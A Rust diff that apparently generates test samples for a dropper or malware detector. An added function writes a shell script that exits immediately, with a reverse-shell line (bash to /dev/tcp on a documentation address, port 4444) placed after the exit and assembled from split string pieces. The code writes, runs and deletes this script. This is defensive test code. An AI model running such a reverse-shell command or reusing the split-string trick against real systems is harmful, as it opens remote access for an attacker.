@@ -35,17 +35,21 @@ pub fn control() -> Vec<u8> {
     b"Buy bread, milk and two apples.\n".to_vec()
 }
 
-/// A dropper's life: write a program, run it, remove it, as fast as can be. The program prints one line;
-/// what makes it suspicious is the text it carries after `exit`.
+/// A program that ends at once. What makes it suspicious is a line behind its end, which is never run; the address
+/// is one of those that are for documentation (RFC 5737). `mark` makes its content its own.
+#[must_use]
+pub fn program(mark: &str) -> Vec<u8> {
+    let line = ["ba", "sh -i >& /dev/", "tc", "p/192.0.2.1/4444 0>&1"].concat();
+    format!("#!/bin/sh\nexit 0\n# {mark}\n{line}\n").into_bytes()
+}
+
+/// A dropper's life: write a program, run it, remove it, as fast as can be.
 ///
 /// # Errors
 /// When the folder can't be written or the program can't be run.
 pub fn drop_and_run(path: &Path) -> anyhow::Result<()> {
-    let mut text = b"#!/bin/sh\nexit 0\n".to_vec();
-    text.extend(eicar());
-    text.push(b'\n');
     let mut file = fs::File::create(path)?;
-    file.write_all(&text)?;
+    file.write_all(&program("dropped"))?;
     file.set_permissions(fs::Permissions::from_mode(0o700))?;
     drop(file);
     let run = Command::new(path).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
